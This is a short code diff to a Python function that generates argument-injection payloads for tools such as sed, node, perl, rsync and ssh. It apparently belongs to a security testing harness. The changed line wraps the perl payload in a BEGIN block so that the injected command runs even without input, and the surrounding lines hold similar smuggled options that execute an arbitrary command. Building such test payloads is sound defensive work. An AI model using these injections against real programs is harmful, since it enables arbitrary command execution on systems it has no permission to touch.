@@ -148,7 +148,7 @@ def code_payloads(k: int, families: Optional[set] = None) -> list[str]:
         "sedopt": [f"--expression=e {c}"],
         # node parses options after the -e script; perl joins every -e into the program
         "node": [f'--eval=require("child_process").execSync("{c}")'],
-        "perlopt": [f'-e;system("{c}")'],
+        "perlopt": [f'-e;BEGIN{{system("{c}")}}'],  # BEGIN: runs under -n/-p without input too
         # argv shims (sandbox.py): rsync runs --rsh for a remote operand, ssh runs ProxyCommand
         "rsync": [f"--rsh={c}"],
         "ssh": [f"-oProxyCommand={c}"],
